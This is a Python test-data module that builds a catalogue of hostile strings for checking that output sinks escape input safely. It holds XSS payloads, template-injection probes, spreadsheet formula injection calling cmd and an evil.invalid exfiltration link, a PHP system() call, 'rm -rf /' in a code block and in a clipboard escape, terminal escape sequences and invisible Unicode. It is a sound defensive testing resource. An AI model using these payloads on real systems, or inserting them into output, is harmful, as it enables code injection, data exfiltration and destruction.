"""Over 500 texts that a cluster may hold and that some sink would obey, by what they try."""

from collections.abc import Iterator
from itertools import product

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/beacon.png>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.invalid>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid><input name=token>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<!--",
    "-->",
    "<!doctype html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<a href='javascript:alert(1)'>x</a>",
    "</td></tr></table><h1>All is well</h1>",
    "</main></body></html>",
    "<",
    ">",
    "&",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;script&#x3e;",
    "&amp;lt;b&amp;gt;",
)
BREAKOUTS = tuple(
    f"{quote}{gap}{attribute}"
    for quote, gap, attribute in product(
        ('"', "'", "`", '">', "'>", "/>"),
        (" ", "/", "\n", "\t", "\f"),
        ("onmouseover=alert(1)", "style=position:fixed", "autofocus onfocus=alert(1) x="),
    )
)
ADDRESSES = tuple(
    f"{scheme}{rest}"
    for scheme, rest in product(
        ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "vbscript:", "data:", "//"),
        ("alert(1)", "text/html,<script>alert(1)</script>", "evil.invalid/%0aalert(1)"),
    )
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}",
    "{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{% for x in y %}",
    "{# a comment",
    "{{",
    "}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "{0.__class__}",
    "{view}",
    "[bold red]x[/]",
    "[link=https://evil.invalid]x[/link]",
    "[/]",
    ":boom:",
)
CALCULATIONS = (
    *(
        f"{lead}{trigger}{rest}"
        for lead, trigger, rest in product(
            ("", " ", "  ", "\xa0", "\t", "\r", "\n", "\u3000", '"', "'", "x;", "x\n", "x\r\n"),
            "=+-@\uff1d\uff0b\uff0d\uff20",
            ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.invalid?"&A1)'),
        )
    ),
    "\u22121+1",
    "\ufe66SUM(1)",
    ',"=1+1"',
    '","=1+1',
    "\r\n=1+1,x",
    ";=1+1;",
    "|=1",
)
MARKUP = (
    "[x](https://evil.invalid)",
    "[x](javascript:alert(1))",
    "![x](https://evil.invalid/beacon.png)",
    "[x]: https://evil.invalid",
    "<https://evil.invalid>",
    "<a@evil.invalid>",
    "https://evil.invalid",
    "http://evil.invalid/?q=1",
    "www.evil.invalid",
    "ann@evil.invalid",
    "@everyone",
    "@org/team",
    "<!channel>",
    "<@U123>",
    "#1",
    "org/repo#1",
    "GH-1",
    "`",
    "``",
    "```",
    "```sh\nrm -rf /\n```",
    "` <b>x</b> `",
    "`` x ` y",
    "\\`",
    "\\",
    "\\|",
    "|",
    "| a | b |",
    "||",
    "*x*",
    "**x**",
    "_x_",
    "__x__",
    "~~x~~",
    "# x",
    "###### x",
    "> x",
    "- x",
    "+ x",
    "1. x",
    "---",
    "***",
    "===",
    "x\n===",
    "x\n---",
    "    code",
    "\n\n# x",
    "\n\n<b>x</b>\n\n",
    "- [ ] x",
    "[^1]",
    "$x$",
    "&copy;",
    "<b>x</b>",
    "<details><summary>x</summary>",
    "<!-- x",
)
SEQUENCES = (
    *(
        f"{start}{rest}"
        for start, rest in product(
            ("\x1b[", "\x9b"),
            ("2J", "31m", "8m", "1A", "6n", "?1049h", "8;1;1t", "1;2r", "999999b"),
        )
    ),
    "\x1b]0;root@prod\x07",
    "\x1b]8;;https://evil.invalid\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP1;1|17/72\x1b\\",
    "\x1b_G\x1b\\",
    "\x1bc",
    "\x1b",
)
CONTROLS = tuple(f"a{chr(n)}b" for n in (*range(0x20), *range(0x7F, 0xA0)))
REORDERS = tuple(
    f"{c}b" for c in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
HIDDEN = tuple(
    f"a{c}b"
    for c in (
        "\u00ad\u034f\u115f\u1680\u17b4\u180e\u2000\u200b\u200c\u200d\u2028\u2029\u202f\u205f"
        "\u2060\u2064\u2800\u3000\u3164\ufe0f\ufeff\uffa0\ufff9\uffff\ue000\U000e0041\U0010fffd"
    )
)
HALVES = ("\ud800", "\udfff", "\udc9b", "x\ud83d", "\udc00\ud800")
LINES = ("\n", "\r", "\r\n", "a\nb\nc", "a\r\nweb  PASS", "\x85", "\v", "\f", "\n\n\n")
HUGE = ("A" * 100_000, "<" * 9_999, "\x1b[2J" * 999, "=" * 40_000, "`" * 9_999, "\u202e" * 999)
BLANK = (" ", "   ", "\t", "\x00")


def _named() -> Iterator[tuple[str, str]]:
    families = {
        "script": SCRIPTS,
        "breakout": BREAKOUTS,
        "address": ADDRESSES,
        "template": TEMPLATES,
        "calculation": CALCULATIONS,
        "markup": MARKUP,
        "sequence": SEQUENCES,
        "control": CONTROLS,
        "reorder": REORDERS,
        "hidden": HIDDEN,
        "half": HALVES,
        "line": LINES,
        "huge": HUGE,
        "blank": BLANK,
    }
    for family, texts in families.items():
        for number, text in enumerate(texts):
            yield f"{family} {number}", text


HOSTILE = dict(_named())
"""By family and number, so that a failed test has a name that a terminal can show."""
